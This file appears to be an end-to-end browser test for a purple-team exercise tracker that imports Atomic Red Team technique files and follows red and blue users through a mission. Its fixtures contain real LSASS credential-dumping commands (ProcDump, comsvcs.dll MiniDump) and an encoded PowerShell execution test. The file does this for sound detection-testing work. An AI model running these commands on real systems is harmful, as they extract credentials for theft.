"""README.md's "A first mission, step by step", followed literally in the browser by a
newcomer: every button and menu the README names is looked up by that name, so a README that
drifts from the SPA fails here. Runs on the real ATT&CK enterprise bundle (skips without it)."""

# The Atomic files below keep their real, long command lines.
# ruff: noqa: E501

from __future__ import annotations

import json
import re
from pathlib import Path

from a11y import check_a11y
from api_client import ADMIN_EMAIL, ADMIN_PASSWORD, ApiClient
from playwright.sync_api import Page, expect
from test_collaboration import accept, drawer_of, paste_image, png
from test_invitations import invite
from test_missions import choose, row_of

# A technique file as atomic-red-team ships it (atomics/T1003.001/T1003.001.yaml, abridged):
# input arguments with defaults, a prerequisite with its check and fetch commands.
ATOMIC_T1003_001 = """\
attack_technique: T1003.001
display_name: "OS Credential Dumping: LSASS Memory"
atomic_tests:
- name: Dump LSASS.exe Memory using ProcDump
  auto_generated_guid: 0be2230c-9ab3-4ac2-8826-3199b9a0ebf8
  description: |
    The memory of lsass.exe is often dumped for offline credential theft attacks. This can be
    achieved with Sysinternals ProcDump.

    Upon successful execution, you should see the following file created c:\\windows\\temp\\lsass_dump.dmp.
  supported_platforms:
  - windows
  input_arguments:
    output_file:
      description: Path where resulting dump should be placed
      type: path
      default: C:\\Windows\\Temp\\lsass_dump.dmp
    procdump_exe:
      description: Path of Procdump executable
      type: path
      default: PathToAtomicsFolder\\..\\ExternalPayloads\\procdump.exe
  dependency_executor_name: powershell
  dependencies:
  - description: |
      ProcDump tool from Sysinternals must exist on disk at specified location (#{procdump_exe})
    prereq_command: |
      if (Test-Path "#{procdump_exe}") {exit 0} else {exit 1}
    get_prereq_command: |
      Invoke-WebRequest "https://download.sysinternals.com/files/Procdump.zip" -OutFile "$env:TEMP\\Procdump.zip"
      Expand-Archive $env:TEMP\\Procdump.zip $env:TEMP\\Procdump -Force
  executor:
    command: |
      "#{procdump_exe}" -accepteula -ma lsass.exe #{output_file}
    cleanup_command: |
      del "#{output_file}" >nul 2> nul
    name: command_prompt
    elevation_required: true
- name: Dump LSASS.exe Memory using comsvcs.dll
  auto_generated_guid: 2536dee2-12fb-459a-8c37-971844fa73be
  description: |
    The memory of lsass.exe is often dumped for offline credential theft attacks. This can be
    achieved with a built-in dll.
  supported_platforms:
  - windows
  executor:
    command: |
      C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).id $env:TEMP\\lsass-comsvcs.dmp full
    cleanup_command: |
      Remove-Item $env:TEMP\\lsass-comsvcs.dmp -ErrorAction Ignore
    name: powershell
    elevation_required: true
"""

ATOMIC_T1059_001 = """\
attack_technique: T1059.001
display_name: "Command and Scripting Interpreter: PowerShell"
atomic_tests:
- name: ATHPowerShellCommandLineParameter -EncodedCommand parameter variations
  auto_generated_guid: 86a43bad-12e3-4e85-b97c-4d5cf25b95c3
  description: Executes powershell.exe with variations of the -EncodedCommand parameter
  supported_platforms:
  - windows
  input_arguments:
    command_line_switch_type:
      description: Specifies the type of command-line switch to use (Hyphen or ForwardSlash)
      type: string
      default: Hyphen
  dependency_executor_name: powershell
  dependencies:
  - description: The AtomicTestHarnesses module must be installed
    prereq_command: |
      $RequiredModule = Get-Module -Name AtomicTestHarnesses -ListAvailable
      if (-not $RequiredModule) {exit 1}
    get_prereq_command: |
      Install-Module -Name AtomicTestHarnesses -Scope CurrentUser -Force
  executor:
    command: |
      Out-ATHPowerShellCommandLineParameter -CommandLineSwitchType #{command_line_switch_type} -CommandParamVariation Encoded -Execute -ErrorAction Stop
    name: powershell
"""

RED = "rob.red@e2e.violet.test"
BLUE = "bea.blue@e2e.violet.test"
LSASS_PROCDUMP = "Dump LSASS.exe Memory using ProcDump"
LSASS_COMSVCS = "Dump LSASS.exe Memory using comsvcs.dll"
ENCODED = "ATHPowerShellCommandLineParameter -EncodedCommand parameter variations"


def nav(page: Page, name: str) -> None:
    page.get_by_role("navigation", name="Main navigation").get_by_role(
        "link", name=name, exact=True
    ).click()
    page.mouse.move(0, 0)  # axe checks the page at rest, not a hovered link


def test_the_readme_first_mission_step_by_step(
    admin_api: ApiClient, real_bundle_file: Path, open_context, tmp_path: Path
):
    admin_api.sync_mitre_file(real_bundle_file)
    # Last quarter's mission, to compare with (step 5): LSASS dumping went unseen then.
    earlier = admin_api.call("POST", "/missions", {"name": "Q3 purple week", "status": "active"})
    tag = {"kind": "subtechnique", "external_id": "T1003.001"}
    old = admin_api.call(
        "POST", f"/missions/{earlier['id']}/tests", {"name": "LSASS", "mitre": [tag]}
    )
    url = f"/missions/{earlier['id']}/tests/{old['id']}"
    levels = {
        level["name"]: level["id"] for level in admin_api.call("GET", "/detection-levels")["items"]
    }
    admin_api.call("PATCH", url, {"state": "in_progress"})
    admin_api.call("PATCH", url, {"state": "waiting_blue"})
    admin_api.call("PATCH", url, {"detection_level_id": levels["Not detected"]})
    admin_api.call("PATCH", url, {"state": "completed"})

    # 1. The administrator invites a red operator and a blue analyst; each accepts the link
    # in a browser of their own.
    admin = open_context(ADMIN_EMAIL, ADMIN_PASSWORD)
    nav(admin, "Invitations")
    red_link = invite(admin, RED, ["Operators"])
    blue_link = invite(admin, BLUE, ["Analysts"])
    red = open_context(clock=True)
    accept(red, red_link, "Rob Red")
    blue = open_context(clock=True)
    accept(blue, blue_link, "Bea Blue")
    # Blue records per defense tool: the workspace needs its tools first.
    nav(admin, "Defense tools")
    admin.get_by_label("Tool name").fill("Defender for Endpoint")
    choose(admin, "Layer", "EDR")
    admin.get_by_role("button", name="Add tool").click()
    expect(admin.get_by_label("Name of Defender for Endpoint")).to_be_visible()

    # 2. Test library: import Atomic Red Team technique files, several at once.
    files = []
    for name, text in (("T1003.001.yaml", ATOMIC_T1003_001), ("T1059.001.yaml", ATOMIC_T1059_001)):
        path = tmp_path / name
        path.write_text(text)
        files.append(str(path))
    nav(admin, "Test library")
    admin.get_by_role("button", name="Import").click()
    dialog = admin.get_by_role("dialog", name="Import templates")
    dialog.get_by_label("Files", exact=True).set_input_files(files)
    dialog.get_by_role("button", name="Import", exact=True).click()
    report = dialog.get_by_test_id("import-report")
    expect(report).to_contain_text("Import finished")
    expect(report.get_by_test_id("import-created")).to_have_text("3")
    expect(report.get_by_test_id("import-errors")).to_have_text("0")
    check_a11y(admin)
    dialog.get_by_role("button", name="Close", exact=True).click()
    admin.get_by_role("button", name=LSASS_PROCDUMP, exact=True).click()
    details = admin.get_by_test_id("template-details")
    expect(details).to_contain_text("T1003.001")
    expect(details).to_contain_text("procdump.exe")
    admin.keyboard.press("Escape")
    expect(details).to_have_count(0)

    # ... and group them into a scenario under Scenarios.
    nav(admin, "Scenarios")
    admin.get_by_label("New scenario name").fill("Credential access")
    admin.get_by_role("button", name="Create scenario").click()
    expect(admin.get_by_role("heading", name="Credential access")).to_be_visible()
    for name in ("ProcDump", "comsvcs"):
        admin.get_by_role("combobox", name="Add a test").fill(name)
        admin.get_by_role("option", name=re.compile(name)).click()
    expect(admin.get_by_test_id("scenario-test")).to_have_count(2)
    admin.get_by_role("button", name="Save tests and order").click()
    expect(admin.get_by_text("Saved.")).to_be_visible()

    # 3. Missions → New mission: the admin becomes its lead.
    nav(admin, "Missions")
    admin.get_by_role("button", name="New mission").click()
    admin.get_by_label("Name").fill("Q4 purple week")
    admin.get_by_role("button", name="Create mission").click()
    expect(admin.get_by_role("heading", name="Q4 purple week", level=1)).to_be_visible()
    admin.get_by_role("button", name="Members").click()
    members = admin.get_by_role("dialog", name="Members")
    for name, email, role in (("Rob", RED, "Red"), ("Bea", BLUE, "Blue")):
        members.get_by_label("Add a person").fill(name)
        admin.get_by_role("option", name=re.compile(re.escape(email))).click()
        choose(admin, "Role", role)
        members.get_by_role("button", name="Add", exact=True).click()
        expect(members.get_by_test_id("members-table")).to_contain_text(email)
    members.get_by_role("button", name="Save members").click()
    expect(members).to_have_count(0)
    # A category (a day), then the scenario and a single test into it.
    admin.get_by_role("button", name="Categories").click()
    categories = admin.get_by_role("dialog", name="Categories")
    categories.get_by_label("New category").fill("Day 1")
    categories.get_by_role("button", name="Add category").click()
    expect(categories.get_by_test_id("categories")).to_contain_text("Day 1")
    categories.get_by_role("button", name="Close").click()
    admin.get_by_role("button", name="Add tests").click()
    adding = admin.get_by_role("dialog", name="Add tests")
    choose(admin, "Add to category", "Day 1")
    adding.get_by_role("tab", name="Scenario").click()
    adding.get_by_role("combobox", name="Scenario").click()
    admin.get_by_role("option", name="Credential access").click()
    adding.get_by_role("button", name="Add scenario").click()
    expect(admin.get_by_test_id("test-row")).to_have_count(2)
    admin.get_by_role("button", name="Add tests").click()
    choose(admin, "Add to category", "Day 1")
    adding.get_by_role("tab", name="From the library").click()
    check_a11y(admin)
    adding.get_by_role("combobox", name="Test template").fill("Encoded")
    admin.get_by_role("option", name=re.compile("EncodedCommand")).click()
    adding.get_by_role("button", name="Add test").click()
    expect(admin.get_by_test_id("test-row")).to_have_count(3)
    expect(row_of(admin, ENCODED).get_by_test_id("category-badge")).to_have_text("Day 1")

    # 4. Red opens a test, starts it, records what was run, pastes a screenshot, hands it over.
    mission_url = admin.url
    red.goto(mission_url)
    red.get_by_role("button", name=LSASS_PROCDUMP, exact=True).click()
    drawer = drawer_of(red)
    # What to run includes the atomic's dependency (fetch ProcDump) and its cleanup (delete the
    # dump of LSASS, credentials in it): red needs both beside the procedure.
    what = drawer.get_by_role("region", name="What to run")
    expect(what).to_contain_text("Prerequisites")
    expect(what).to_contain_text("download.sysinternals.com/files/Procdump.zip")
    expect(what).to_contain_text("Cleanup")
    expect(what).to_contain_text('del "#{output_file}"')
    drawer.get_by_role("button", name="Start").click()
    expect(drawer.get_by_test_id("drawer-state")).to_have_text("In progress")
    drawer.get_by_label("Red notes (Markdown)").fill(
        "Ran `procdump -ma lsass.exe` on WS-042 at 10:02"
    )
    drawer.get_by_role("button", name="Save red fields").click()
    expect(drawer.get_by_role("status").filter(has_text="Saved.")).to_have_count(1)
    drawer.get_by_test_id("evidence-dropzone").focus()
    paste_image(red, "evidence-dropzone", png())
    expect(drawer.get_by_test_id("evidence-file")).to_have_count(1)
    check_a11y(red)
    drawer.get_by_role("button", name="Hand to blue").click()
    expect(drawer.get_by_test_id("drawer-state")).to_have_text("Waiting for blue")

    # Blue is notified and records the outcome per defense tool.
    blue.clock.fast_forward("00:16")
    blue.get_by_test_id("notification-bell").click()
    blue.get_by_test_id("notification").filter(has_text="is waiting for blue").click()
    drawer = drawer_of(blue)
    expect(drawer).to_be_visible()
    drawer.get_by_role("button", name="Add tool outcome").click()
    choose(blue, "Tool of detection 1", "Defender for Endpoint")
    choose(blue, "Level of detection 1", "Alerted")
    drawer.get_by_label("Rule reference of detection 1").fill("MDE-LSASS-ACCESS")
    drawer.get_by_role("textbox", name="Notes of detection 1").fill(
        "Alert raised, triaged by the SOC"
    )
    drawer.get_by_role("button", name="Save detections").click()
    expect(drawer.get_by_test_id("level-label").first).to_have_text("Alerted")
    check_a11y(blue)

    # Red, notified in turn, completes the test.
    red.keyboard.press("Escape")
    expect(drawer_of(red)).to_have_count(0)
    red.clock.fast_forward("00:16")
    red.get_by_test_id("notification-bell").click()
    red.get_by_test_id("notification").filter(has_text="Blue recorded the detection").click()
    drawer = drawer_of(red)
    expect(drawer.get_by_test_id("level-label").first).to_have_text("Alerted")
    drawer.get_by_role("button", name="Complete").click()
    expect(drawer.get_by_test_id("drawer-state")).to_have_text("Completed")

    # 5. Coverage: the heatmap, each tool's score, the Tool choice and its layer.
    admin.goto(mission_url)
    admin.get_by_role("main").get_by_role("link", name="Coverage", exact=True).click()
    expect(admin.get_by_test_id("coverage-score")).to_have_text("75")
    expect(admin.get_by_test_id("technique-T1003")).to_contain_text("Alerted · 75")
    tools = admin.get_by_role("table", name="Coverage per defense tool")
    row = tools.get_by_test_id("tool-row-Defender for Endpoint")
    expect(row.get_by_test_id("tool-score")).to_have_text("75")
    choose(admin, "Tool", "Defender for Endpoint (EDR)")
    expect(admin.get_by_test_id("coverage-score")).to_have_text("75")
    check_a11y(admin)
    with admin.expect_download() as info:
        admin.get_by_role("button", name="Download Navigator layer").click()
    layer = json.loads(Path(info.value.path()).read_bytes())
    assert layer["name"] == "Q4 purple week — Defender for Endpoint"
    # The sub-technique tested, and its parent scored from it.
    assert [(item["techniqueID"], item["score"]) for item in layer["techniques"]] == [
        ("T1003", 75),
        ("T1003.001", 75),
    ]
    # Compare two missions: LSASS dumping went from unseen to alerted.
    admin.get_by_role("link", name="Compare two missions").click()
    choose(admin, "Before", "Q3 purple week")
    choose(admin, "After", "Q4 purple week")
    expect(admin.get_by_test_id("compare-T1003.001")).to_contain_text("Improved")
    check_a11y(admin)
    # The mission page opens the printable report in a new tab.
    admin.goto(mission_url)
    with admin.context.expect_page() as opened:
        admin.get_by_role("button", name="Open report").click()
    tab = opened.value
    expect(tab.locator("body")).to_contain_text(LSASS_PROCDUMP)
    tab.close()
    # ... and its Download menu saves the mission's layer (every tool's outcomes).
    admin.get_by_role("button", name="Download").click()
    with admin.expect_download() as info:
        admin.get_by_role("menuitem", name="Navigator layer (JSON)").click()
    assert info.value.suggested_filename == "Q4-purple-week-layer.json"
    layer = json.loads(Path(info.value.path()).read_bytes())
    assert layer["name"] == "Q4 purple week"

    # 6. The lead archives the mission: read-only for everyone, until Reopen.
    choose(admin, "Mission status", "Archived")
    expect(admin.get_by_test_id("archived-notice")).to_contain_text("Archived — read-only.")
    expect(admin.get_by_role("button", name="Add tests")).to_have_count(0)
    red.reload()
    expect(red.get_by_test_id("archived-notice")).to_be_visible()
    expect(drawer_of(red).get_by_role("button", name="Retest")).to_have_count(0)
    admin.get_by_role("button", name="Reopen").click()
    expect(admin.get_by_test_id("archived-notice")).to_have_count(0)
    expect(admin.get_by_role("button", name="Add tests")).to_be_visible()
